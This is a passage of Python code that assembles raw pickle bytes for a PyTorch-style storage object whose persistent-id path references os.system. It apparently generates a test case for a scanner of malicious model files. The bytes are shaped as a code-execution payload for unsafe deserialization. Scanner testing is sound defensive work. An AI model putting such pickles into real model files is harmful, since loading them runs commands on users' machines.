                             proto(2) + b"}" + s("w") + b"(" + s("storage") + g("os", "system")
                             + s("0") + s("cpu") + b"J\x04\x00\x00\x00t" + b"Q" + b"s."),
                         GAPS.get("container-torch-persid-global")))
    return out
